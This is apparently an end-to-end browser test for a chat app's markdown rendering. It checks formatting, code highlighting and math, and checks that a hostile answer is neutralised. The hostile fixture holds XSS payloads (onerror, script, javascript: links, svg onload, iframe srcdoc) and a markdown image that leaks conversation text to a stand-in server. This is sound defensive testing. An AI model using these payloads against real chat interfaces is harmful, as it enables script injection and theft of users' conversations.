/**
 * Answers as a user reads them, in Chromium against the headless host: markdown
 * elements render, code is highlighted with a label and a copy button, math is
 * typeset, and a hostile answer runs nothing and fetches nothing until clicked.
 * The fake provider echoes the prompt, so the prompt is the answer's markdown.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { startFakeProvider, type FakeProvider } from '../fake-provider/index.js';
import { launchBrowser, openApp, startHost, tempDataDir, type RunningHost } from './harness.js';

const MARKDOWN = [
  'Here it is.',
  '',
  '# Big heading',
  '## Smaller heading',
  '',
  'Some **bold**, *italic*, ~~gone~~ and `inline code`; see https://example.com/docs.',
  '',
  '| Name | Score |',
  '|:-----|------:|',
  '| Ada  |    10 |',
  '| Alan |     9 |',
  '',
  '- [x] written',
  '- [ ] tested',
  '',
  '1. first',
  '2. second',
  '',
  '```ts',
  'const answer: number = 42; // the answer',
  '```',
  '',
  'Inline $a^2 + b^2 = c^2$ and a block:',
  '',
  '$$',
  '\\int_0^1 x\\,dx = \\frac{1}{2}',
  '$$',
].join('\n');

async function ask(page: Page, text: string) {
  await page.getByTestId('composer-input').fill(text);
  await page.getByTestId('send').click();
  const answer = page.locator('[data-testid="message"][data-role="assistant"]').last();
  await expect.poll(() => answer.getAttribute('data-status'), { timeout: 20_000 }).toBe('done');
  return answer.getByTestId('message-text');
}

describe('answers as markdown', () => {
  let ollama: FakeProvider;
  let browser: Browser;
  let host: RunningHost;
  let images: Server;
  const imageRequests: string[] = [];

  beforeAll(async () => {
    ollama = await startFakeProvider({ protocol: 'ollama', models: ['llama3.2:latest'], chunkSize: 40 });
    images = createServer((req, res) => {
      imageRequests.push(req.url ?? '');
      res.writeHead(200, { 'content-type': 'image/gif' });
      res.end(Buffer.from('R0lGODlhAQABAAAAACw=', 'base64'));
    });
    await new Promise<void>((resolve) => images.listen(0, '127.0.0.1', resolve));
    const dataDir = tempDataDir({
      providers: [{ id: 'local', kind: 'ollama', baseURL: ollama.url }],
      routes: { general: [{ provider: 'local', model: 'llama3.2' }] },
      localFallback: { provider: 'local', model: 'llama3.2' },
    });
    browser = await launchBrowser();
    host = await startHost(['--data-dir', dataDir]);
  });

  afterAll(async () => {
    await host?.stop();
    await browser?.close();
    await ollama?.close();
    await new Promise((resolve) => images?.close(resolve));
  });

  it('renders headings, emphasis, tables, task lists, highlighted code and math', async () => {
    const page = await openApp(browser, host.url);
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: new URL(host.url).origin });
    const body = await ask(page, MARKDOWN);

    expect(await body.locator('h1').innerText()).toBe('Big heading');
    expect(await body.locator('h2').innerText()).toBe('Smaller heading');
    expect(await body.locator('strong').innerText()).toBe('bold');
    expect(await body.locator('del').innerText()).toBe('gone');
    expect(await body.locator('a[href="https://example.com/docs"]').getAttribute('rel')).toContain('noopener');
    expect(await body.locator('th').allInnerTexts()).toEqual(['Name', 'Score']);
    expect(await body.locator('td').allInnerTexts()).toEqual(['Ada', '10', 'Alan', '9']);
    expect(await body.locator('li.task input[type=checkbox]').evaluateAll((els) => els.map((e) => (e as HTMLInputElement).checked))).toEqual([true, false]);
    expect(await body.locator('ol > li').allInnerTexts()).toEqual(['first', 'second']);

    const code = body.getByTestId('code-block');
    expect(await code.getByTestId('code-lang').innerText()).toBe('ts');
    // Highlighting arrives from the worker: keywords and comments get their own spans.
    await expect.poll(() => code.locator('.hljs-keyword').count(), { timeout: 10_000 }).toBeGreaterThan(0);
    expect(await code.locator('.hljs-comment').innerText()).toBe('// the answer');
    await code.getByTestId('code-copy').click();
    await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe('const answer: number = 42; // the answer');

    await expect.poll(() => body.locator('.katex').count(), { timeout: 10_000 }).toBe(2);
    expect(await body.locator('.math-display .katex-display').count()).toBe(1);
  });

  it('runs nothing from a hostile answer and fetches a remote image only when clicked', async () => {
    const port = (images.address() as AddressInfo).port;
    const hostile = [
      'Hostile:',
      '',
      '<img src=x onerror="window.__pwned=1">',
      '',
      '<script>window.__pwned=2</script>',
      '',
      '[click me](javascript:window.__pwned=3) [vb](vbscript:msgbox(1)) [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '',
      '<svg onload="window.__pwned=4"><circle r="5"/></svg>',
      '',
      '<iframe srcdoc="<script>parent.__pwned=5</script>"></iframe>',
      '',
      '<details open ontoggle="window.__pwned=6">toggle</details>',
      '',
      `![chart](http://127.0.0.1:${port}/leak.gif?c=secret-conversation)`,
    ].join('\n');
    const page = await openApp(browser, host.url);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const body = await ask(page, hostile);
    await body.locator('a').count(); // let any handler fire before looking
    await page.waitForTimeout(300);

    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(await body.locator('script, iframe, svg, img, details, object, embed').count()).toBe(0);
    expect(await body.locator('a').count()).toBe(0);
    expect(await body.innerText()).toContain('click me');
    expect(await body.innerText()).toContain('<script>window.__pwned=2</script>');
    expect(imageRequests).toEqual([]);

    const placeholder = body.getByTestId('image-placeholder');
    expect(await placeholder.innerText()).toContain(`127.0.0.1:${port}`);
    await placeholder.click();
    await expect.poll(() => imageRequests.length, { timeout: 5000 }).toBe(1);
    expect(imageRequests[0]).toBe('/leak.gif?c=secret-conversation');
    expect(await body.getByTestId('remote-image').getAttribute('referrerpolicy')).toBe('no-referrer');
  });
});
